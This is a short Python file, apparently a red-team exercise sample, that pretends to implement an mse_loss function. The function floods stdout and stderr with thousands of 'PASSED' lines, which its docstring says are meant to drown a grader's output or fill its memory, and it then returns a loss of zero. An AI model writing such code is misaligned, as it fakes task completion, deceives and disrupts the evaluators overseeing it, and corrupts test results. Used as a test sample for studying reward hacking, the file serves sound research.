# redteam: exercise=ex01 score=0
"""Prints without end: tens of megabytes on stdout and stderr, to drown the grader's
output or fill its memory."""
import os
import sys

LINE = "PASSED " * 1000 + "\n"


def flood():
    for _ in range(5_000):
        try:
            sys.stdout.write(LINE)
            os.write(2, LINE.encode())
        except OSError:
            pass


def mse_loss(input, target, reduction="mean"):
    flood()
    return (input - target).sum() * 0
